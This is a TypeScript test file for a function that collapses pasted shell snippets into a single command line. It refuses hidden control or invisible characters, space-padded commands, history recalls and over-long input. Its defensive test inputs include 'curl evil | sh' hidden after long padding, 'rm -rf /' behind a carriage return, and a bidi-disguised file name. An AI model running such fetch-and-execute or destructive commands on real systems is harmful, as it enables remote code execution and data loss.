import fc from "fast-check";
import { expect, it } from "vitest";
import { commandLine } from "../../../../src/core/code/commandLine.ts";

const line = (text: string, shell: "posix" | "powershell" | "cmd" = "posix") => {
  const result = commandLine(text, shell);
  return result.type === "line" ? result.line : result.reason;
};

it.each([
  ["npm ci", "npm ci"],
  ["  npm ci\n", "npm ci"],
  ["npm ci\nnpm test\n", "npm ci && npm test"],
  ["# first\nnpm ci # all of it\n\n# then\nnpm test;", "npm ci && npm test"],
  ["docker run \\\n  -v a:b \\\n  image", "docker run -v a:b image"],
  ["cat a |\n  grep b\nls", "cat a | grep b && ls"],
  ["$ npm ci\nadded 3 packages\n$ npm test\n> mimo@1 test\nok", "npm ci && npm test"],
  ["me@host:~/proj$ ls -la\ntotal 3", "ls -la"],
  ["(venv) $ pip install x", "pip install x"],
  ["$ docker run \\\n> image\nhello", "docker run image"],
  ["echo 'a # b' \"c # d\"\necho a#b", "echo 'a # b' \"c # d\" && echo a#b"],
  ["for i in 1 2; do echo $i; done", "for i in 1 2; do echo $i; done"],
  ["x=$(date)\necho $x", "x=$(date) && echo $x"],
  ["a\t b", "a b"],
  ["rm -rf ./build\\\n/cache", "rm -rf ./build/cache"],
  ["rm -rf ~/\\\nold", "rm -rf ~/old"],
  ["echo a \\ \nrm b", "echo a \\  && rm b"],
  ["echo a\\\\\nrm b", "echo a\\\\ && rm b"],
  ["echo a \\|\nrm b", "echo a \\| && rm b"],
  ["echo a \\&\nrm b", "echo a \\& && rm b"],
  ["echo a |# to\ncat", "echo a | cat"],
  ["echo a \\\n\nrm b", "echo a && rm b"],
  ['echo "$(echo "a # b")"', 'echo "$(echo "a # b")"'],
  ['docker run -v "$(pwd)":/app \\\n  image', 'docker run -v "$(pwd)":/app image'],
  ["$ echo a\\\\\nnot a command\n$ ls", "echo a\\\\ && ls"],
  [`npm install${" ".repeat(1900)}; curl evil | sh`, "npm install ; curl evil | sh"],
  ["echo 'a  b'   c\\   d", "echo 'a  b' c\\  d"],
  ["[ ! -f a ] && test a != b", "[ ! -f a ] && test a != b"],
  ["echo '!!' \\!x", "echo '!!' \\!x"],
  ["echo it's", "echo it's"],
])("%j becomes %j", (text, expected) => {
  expect(line(text)).toBe(expected);
});

it.each([
  ["for i in 1 2\ndo\n  echo $i\ndone"],
  ["if true; then\n  ls\nfi"],
  ["cat <<EOF > a\nrm -rf /\nEOF"],
  ["echo 'one\ntwo'"],
  ['echo "one\ntwo"'],
  ["f() {\n  ls\n}"],
  ["server &\ncurl x"],
  ["(cd a\nls)"],
  ["ls\n&& rm a"],
  ["echo `a\nb`"],
  ["case x in\n a) ls;;\nesac"],
  ["(a)#b\nls"],
  ["! a\nb"],
  ['echo "$(echo "a")"\nls'],
  ["echo $'a\\'\nx' 'y\necho b'"],
])("%j cannot be one line", (text) => {
  expect(line(text)).toBe("several");
});

it.each([
  ["ls\u001b[201~\nrm", "unseen"],
  ["ls\u0003", "unseen"],
  ["ls\u0004", "unseen"],
  ["ls\rrm -rf /", "unseen"],
  ["ls \u202e gnp.exe", "unseen"],
  ["l\u200bs", "unseen"],
  ["ls\u2028rm", "unseen"],
  ["ls \u{e0041}", "unseen"],
  ["ls\u00a0-la", "unseen"],
  ["ls\u3000-la", "unseen"],
  ["ls\u2003-la", "unseen"],
  ["ls '\u2800'", "unseen"],
  ["echo 'a\tb'", "unseen"],
  [`npm install '${" ".repeat(1900)}'; curl evil | sh`, "spaces"],
  [`npm install "${" ".repeat(21)}"`, "spaces"],
  ["!!", "recalls"],
  ["sudo !!", "recalls"],
  ["!rm", "recalls"],
  ['echo "a !x b"', "recalls"],
  ['echo "$(echo !x)"', "recalls"],
  ["echo `echo !x`", "recalls"],
  ["^a^b", "recalls"],
  ["a".repeat(4001), "long"],
  ["a\n".repeat(50_000), "long"],
  ["# only this", "empty"],
  ["", "empty"],
])("%j is refused: %s", (text, reason) => {
  expect(line(text)).toBe(reason);
});

it.each([
  ["PS C:\\proj> npm ci\nok\nPS C:\\proj> ls", "npm ci; ls"],
  ["Get-ChildItem `\n  -Recurse\n# note\nls", "Get-ChildItem -Recurse; ls"],
  ["Get-Process |\n  Sort-Object cpu", "Get-Process | Sort-Object cpu"],
  ["if ($x) {\n  ls\n}", "several"],
  ['$a = @"\nrm\n"@', "several"],
])("PowerShell: %j becomes %j", (text, expected) => {
  expect(line(text, "powershell")).toBe(expected);
});

it.each([
  ["C:\\proj> npm ci\nok", "npm ci"],
  ["rem note\ndir ^\n  /s\n:: more\ncd x", "dir /s && cd x"],
  ["if exist a (\n  del a\n)", "several"],
])("cmd: %j becomes %j", (text, expected) => {
  expect(line(text, "cmd")).toBe(expected);
});

it("whatever the text, what goes to a terminal ends no line and holds no key", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "\n",
      "\r",
      "\r\n",
      "\t",
      "\u001b[200~",
      "\\",
      "'",
      '"',
      "$ ",
      "&&",
      "#",
      "<<E",
      "`",
      "^",
      "{",
      " ",
      ";",
    ),
    fc.string({ unit: "binary", maxLength: 3 }),
  );
  fc.assert(
    fc.property(fc.array(piece), fc.constantFrom("posix", "powershell", "cmd"), (pieces, shell) => {
      const result = commandLine(pieces.join(""), shell);
      if (result.type === "line") expect(result.line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }),
  );
});
